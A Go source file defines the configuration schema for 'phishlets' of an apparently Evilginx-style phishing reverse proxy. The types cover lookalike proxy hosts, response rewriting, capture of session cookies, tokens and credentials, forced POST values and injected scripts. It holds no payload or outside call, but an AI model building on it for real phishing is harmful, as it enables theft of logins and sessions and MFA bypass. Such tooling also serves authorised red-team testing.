// File: api/schemas/phishlet.go
package schemas

// ProxyHost maps a proxy-facing hostname onto the real origin host.
type ProxyHost struct {
	PhishSub   string `json:"phish_sub"`
	OrigSub    string `json:"orig_sub"`
	Domain     string `json:"domain"`
	Session    bool   `json:"session"`
	IsLanding  bool   `json:"is_landing"`
	AutoFilter *bool  `json:"auto_filter,omitempty"`
}

// SubFilter is a content rewrite rule applied to proxied responses.
type SubFilter struct {
	TriggersOn string   `json:"triggers_on"`
	OrigSub    string   `json:"orig_sub"`
	Domain     string   `json:"domain"`
	Search     string   `json:"search"`
	Replace    string   `json:"replace"`
	Mimes      []string `json:"mimes"`
}

// AuthTokenKind discriminates the two wire shapes an AuthToken can take.
type AuthTokenKind string

const (
	// AuthTokenCookieKeys is a set of cookie names captured for a domain.
	AuthTokenCookieKeys AuthTokenKind = "cookie_keys"
	// AuthTokenNamed is a single named token (body/header/cookie by type).
	AuthTokenNamed AuthTokenKind = "named"
	// AuthTokenUnknown is a token record carrying neither shape.
	AuthTokenUnknown AuthTokenKind = "unknown"
)

// AuthToken is a cookie or token whose presence signals an authenticated
// session. The wire format is polymorphic: either Keys is set (a keyed
// cookie set) or Name/Type are set (a single named token). Kind resolves
// the discriminant so callers can switch exhaustively.
type AuthToken struct {
	Domain string   `json:"domain"`
	Keys   []string `json:"keys,omitempty"`
	Name   string   `json:"name,omitempty"`
	Type   string   `json:"type,omitempty"`
}

// Kind reports which of the two token shapes this record carries.
func (t AuthToken) Kind() AuthTokenKind {
	switch {
	case len(t.Keys) > 0:
		return AuthTokenCookieKeys
	case t.Name != "":
		return AuthTokenNamed
	default:
		return AuthTokenUnknown
	}
}

// CredentialField describes where a credential value is captured from.
type CredentialField struct {
	Key    string `json:"key"`
	Search string `json:"search"`
	Type   string `json:"type"`
}

// Credentials groups the username/password/custom field descriptors.
type Credentials struct {
	Username *CredentialField  `json:"username,omitempty"`
	Password *CredentialField  `json:"password,omitempty"`
	Custom   []CredentialField `json:"custom,omitempty"`
}

// ForcePostSearch selects POST parameters a ForcePost rule applies to.
type ForcePostSearch struct {
	Key    string `json:"key"`
	Search string `json:"search"`
}

// ForcePostForce is a key/value pair injected into a matching POST body.
type ForcePostForce struct {
	Key   string `json:"key"`
	Value string `json:"value"`
}

// ForcePost injects or overrides POST-body parameters for matching requests.
type ForcePost struct {
	Path   string            `json:"path"`
	Search []ForcePostSearch `json:"search"`
	Force  []ForcePostForce  `json:"force,omitempty"`
	Type   string            `json:"type"`
}

// JsInject is a script injected into pages matching its trigger conditions.
type JsInject struct {
	TriggerDomains []string `json:"trigger_domains"`
	TriggerPaths   []string `json:"trigger_paths"`
	TriggerParams  []string `json:"trigger_params"`
	Script         string   `json:"script"`
}

// LoginConfig locates the login page within the proxied domains.
type LoginConfig struct {
	Domain string `json:"domain"`
	Path   string `json:"path"`
}

// Phishlet is the generated authentication-proxy configuration artifact.
type Phishlet struct {
	Name        string      `json:"name"`
	Author      string      `json:"author"`
	MinVer      string      `json:"min_ver"`
	ProxyHosts  []ProxyHost `json:"proxy_hosts"`
	SubFilters  []SubFilter `json:"sub_filters"`
	AuthTokens  []AuthToken `json:"auth_tokens"`
	Credentials Credentials `json:"credentials"`
	AuthURLs    []string    `json:"auth_urls"`
	Login       LoginConfig `json:"login"`
	ForcePost   []ForcePost `json:"force_post"`
	JsInject    []JsInject  `json:"js_inject"`
}

// ReferencedDomains returns every domain referenced by sub_filters,
// auth_tokens and force_post, deduplicated in first-seen order.
func (p *Phishlet) ReferencedDomains() []string {
	seen := make(map[string]struct{})
	var out []string
	add := func(d string) {
		if d == "" {
			return
		}
		if _, ok := seen[d]; ok {
			return
		}
		seen[d] = struct{}{}
		out = append(out, d)
	}
	for _, sf := range p.SubFilters {
		add(sf.Domain)
	}
	for _, at := range p.AuthTokens {
		add(at.Domain)
	}
	add(p.Login.Domain)
	return out
}

// UnproxiedDomains reports referenced domains that do not appear among the
// proxy_hosts domains. The server-side validator flags these; the client
// only needs to be able to show them.
func (p *Phishlet) UnproxiedDomains() []string {
	proxied := make(map[string]struct{}, len(p.ProxyHosts))
	for _, ph := range p.ProxyHosts {
		proxied[ph.Domain] = struct{}{}
	}
	var out []string
	for _, d := range p.ReferencedDomains() {
		if _, ok := proxied[d]; !ok {
			out = append(out, d)
		}
	}
	return out
}
